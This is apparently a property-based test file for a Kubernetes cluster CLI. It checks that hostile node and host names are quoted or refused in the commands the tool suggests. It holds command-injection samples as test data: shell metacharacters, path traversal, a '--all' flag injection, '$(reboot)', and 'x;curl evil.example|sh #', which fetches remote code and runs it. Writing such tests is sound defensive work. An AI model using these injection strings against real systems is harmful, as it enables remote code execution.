import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { kubeadm } from '../../distributions/kubeadm/index.ts'
import { otherNodes, otherNodesNote } from '../../src/cli/run/other-nodes.ts'
import { readStatus } from '../../src/cli/status/cluster-status.ts'
import { statusText } from '../../src/cli/status/status-text.ts'
import { type ErrorDetails, UserError } from '../../src/core/index.ts'
import { GraphBuilder } from '../../src/core/scope.ts'
import { checkHosts } from '../../src/preflight/index.ts'
import { createPaint } from '../../src/report/index.ts'
import { nodeLabels } from '../../src/resources/api/node-labels.ts'
import { kubeadmApi } from '../../src/resources/kubeadm/api-access.ts'
import { explainKubeadm } from '../../src/resources/kubeadm/failure.ts'
import { kubeadmInit } from '../../src/resources/kubeadm/init.ts'
import { nodeRuntime } from '../../src/resources/kubeadm/node-runtime.ts'
import { explainNode } from '../../src/resources/network-check/cause.ts'
import { checkPods } from '../../src/resources/network-check/pods.ts'
import { quote } from '../../src/shell/quote.ts'
import { readFacts } from '../facts/read.ts'
import { factsText } from '../facts/text.ts'
import { fuzzing } from '../kit/fuzz.ts'
import { specOf } from '../preflight/given-hosts.ts'
import { nodesAnswered } from '../resources/api-given.ts'
import { nodeCertificate } from '../resources/certificate.ts'
import { checkName, vxlan } from '../resources/network-check-given.ts'
import { nodesListed, podsListed } from './listed.ts'

const spec = specOf()
const ok = { exitCode: 0, stderr: '' }
const answered = (text: string) => ({ ...ok, stdout: `api=answered\n${text}\n` })

function leftNext(line: string): readonly (string | undefined)[] {
  const stdout = `${factsText({ name: 'cp1', address: '192.0.2.11', remains: [line] })}\n@@ end\n`
  const facts = readFacts('cp1', stdout, { sentAt: 1_795_865_508_340, receivedAt: 1_795_865_508_360 })
  return checkHosts({ spec, distribution: kubeadm, facts: new Map([['cp1', facts]]) }).map(
    ({ error }) => error.details.next,
  )
}

/** What evcctl tells people to do, by what a host or an API server may call a thing. */
const readers: Readonly<Record<string, (name: string) => readonly (string | undefined)[]>> = {
  'the note of a node that is not in the file': name => {
    const builder = new GraphBuilder()
    builder
      .scope('cp1', 'nodes')
      .add(nodeLabels({ api: kubeadmApi, node: 'w1', labels: {}, taints: [], managedTaints: [] }))
    const graph = builder.build()
    const raw = nodesAnswered({ metadata: { name } })
    const snapshots = new Map([...graph.tasks].map(([id, task]) => [id, { current: task.resource.probe.parse(raw) }]))
    return [otherNodesNote(otherNodes({ graph, snapshots }, spec), { file: spec.file, reset: kubeadm.byHand.reset })]
  },
  'status of a node that is not in the file': name => {
    const pods = [{ metadata: { name }, spec: { nodeName: name }, status: { phase: 'Pending' } }]
    const lists = [nodesListed([{ metadata: { name } }]), podsListed(pods), 'ok', '{"gitVersion":"v1.36.4"}']
    return [
      statusText(readStatus(spec, lists.map(answered)), {
        name: 'lab',
        file: spec.file,
        reset: kubeadm.byHand.reset,
        paint: createPaint(false),
      }),
    ]
  },
  'a node with another runtime': name => {
    const resource = nodeRuntime({ node: 'w1', name: 'cri-o', title: 'CRI-O', socket: 'x', ofSocket: () => undefined })
    const current = resource.probe.parse({ ...ok, stdout: `socket=${name}\n` })
    return [resource.diff(current, { name: 'cri-o' }, { watched: [] })?.refused?.next]
  },
  'what is left on a host': name =>
    ['cni /etc/cni/net.d/', 'kubernetes /etc/kubernetes/', 'kubelet /etc/'].flatMap(kind => leftNext(kind + name)),
  'a file that is left elsewhere': name => leftNext(`kubernetes ${name}`),
  'a network configuration that is left elsewhere': name => leftNext(`cni ${name}`),
  'an interface that is left': name => leftNext(`interface ${name}`),
  'pods that do not reach each other': name =>
    [0, 1, 2, 3].map(hostile => {
      const [node, pod, address, hostAddress] = ['w1', `${checkName}-w1`, '10.9.0.5', '192.0.2.21'].map(
        (text, index) => (index === hostile ? name : text),
      )
      const row = [node, pod, address, hostAddress, 'Running', '', '', '', ''].join('\t')
      const pods = checkPods({ api: kubeadmApi, image: 'x' }).parse({
        ...ok,
        stdout: `name=${checkName}\ndns=yes\npod=${row}\n`,
      })
      const pairs = [{ from: 'w1', to: 'cp1', state: 'silent' as const, said: name, hostsReach: true }]
      return explainNode('w1', { pairs, service: { from: 'w1', state: 'dns', said: name } }, pods, vxlan)?.next
    }),
  'a failure of kubeadm': name =>
    [
      `[ERROR Port-${name}]: taken`,
      `[ERROR ${name}]: x`,
      `node "${name}" with status "Ready" already exists in the cluster`,
    ].map(stderr => explainKubeadm({ step: 0, exitCode: 1, stdout: '', stderr }, { run: 'kubeadm join' })?.next),
}

function commandsOf(read: (name: string) => readonly (string | undefined)[], name: string): string {
  try {
    return read(name).join('\n')
  } catch (error) {
    // That it is refused is an answer, too.
    return error instanceof UserError ? ((error.details as ErrorDetails).next ?? '') : ''
  }
}

// What a shell or a program takes for more than a name, and a word by which it is found again.
const hostile = fc
  .tuple(
    fc.constantFrom('', 'x', 'unix:///run/'),
    fc.constantFrom(';', '$(', '`', '|', '&', '&&', '>', '<', "'", "';", '"', '\\', ' ', '\t', '{', '*', '~', '#'),
    fc.constantFrom('', ';', ')', '`', "'", '"', '#'),
  )
  .map(([before, risk, after]) => ({ name: `${before}${risk}zq${after}`, risk: `${risk}zq` }))

describe('a hostile name of a host or API server is in no command as it is:', () => {
  test.each(Object.entries(readers))('%s', (what, read) => {
    fc.assert(
      fc.property(hostile, ({ name, risk }) => {
        const said = commandsOf(read, name)
        const quoted = ['', '/etc/cni/net.d/', '/etc/kubernetes/', '/var/lib/etcd/'].map(folder =>
          quote(`${folder}${name}`),
        )
        expect(quoted.reduce((text, one) => text.replaceAll(one, ''), said)).not.toContain(risk)
      }),
      fuzzing(what, 150),
    )
  })

  test.each(Object.entries(readers))('nor is a flag: %s', (_, read) => {
    expect(commandsOf(read, '--all').replace("--cri-socket '--all'", '')).not.toMatch(/(?<![\w/-])--all\b/)
  })

  test.each([
    ['the note of a node that is not in the file', 'evcctl remove x9 cluster.yaml'],
    ['status of a node that is not in the file', 'evcctl remove x9 cluster.yaml'],
    ['a node with another runtime', "--cri-socket 'x9' on"],
    ['what is left on a host', "rm -rf '/etc/kubernetes/x9'"],
    ['a failure of kubeadm', 'ignorePreflightErrors: [x9]'],
  ])('while an ordinary one is: %s', (reader, command) => {
    expect(commandsOf(readers[reader]!, 'x9')).toContain(command)
  })

  test('nor does a file that is to be deleted lie anywhere else', () => {
    expect(commandsOf(readers['what is left on a host']!, '../../home')).toBe('')
    expect(commandsOf(readers['a file that is left elsewhere']!, '/home')).toBe('')
  })

  test('nor is the name that another node has', () => {
    const resource = kubeadmInit({ configuration: '/x', node: 'cp1', criSocket: 'x', endpoint: 'x:1', records: [] })
    const next = (name: string) => {
      const certificate = nodeCertificate(`'${name}'`).replace(/^/gm, 'nodeCertificate=')
      const found = ['admin.conf', 'kubelet.conf', 'manifests/kube-apiserver.yaml', 'pki/ca.crt', 'etcd']
      const stdout = `${found.map(part => `found=${part}\n`).join('')}${certificate}\n`
      const change = resource.diff(resource.probe.parse({ ...ok, stdout }), { endpoint: 'x:1' }, { watched: [] })
      return change?.refused?.next ?? ''
    }
    expect(next('w9')).toContain('kubectl delete node w9')
    for (const name of ['x;curl evil.example|sh #', '--all', '$(reboot)']) expect(next(name)).not.toContain(name)
  })
})
